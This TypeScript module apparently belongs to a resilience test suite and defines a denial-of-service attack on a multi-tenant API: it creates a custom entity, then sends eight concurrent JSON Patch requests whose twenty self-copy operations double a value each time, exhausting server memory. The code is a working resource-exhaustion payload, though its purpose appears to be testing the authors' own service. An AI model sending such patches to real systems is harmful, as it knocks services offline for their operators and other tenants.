import { type Attack, repeatedly, send } from './attack.ts';

const patch = [
  { op: 'add', path: '/x', value: {} },
  ...Array.from({ length: 20 }, (_, index) => ({ op: 'copy', from: '/x', path: `/x/${index}` })),
];

/** A patch of 1 KiB that copies a value into itself 20 times, so that it doubles each time. */
export const attack: Attack = {
  row: 4,
  title: 'patches that double a value 20 times, 8 at once',

  async prepare(attacker) {
    const types = `/schema/${attacker.tenant}/custom-entities`;
    await send(attacker, 'POST', types, { id: 'THING', name: { en: 'Thing' } });
    await send(attacker, 'PUT', `${types}/THING/instances/one`, { a: 1 });
  },

  async run(attacker, signal) {
    const path = `/schema/${attacker.tenant}/custom-entities/THING/instances/one`;
    await repeatedly(8, signal, () => send(attacker, 'PATCH', path, patch, 'application/json-patch+json'));
  },
};
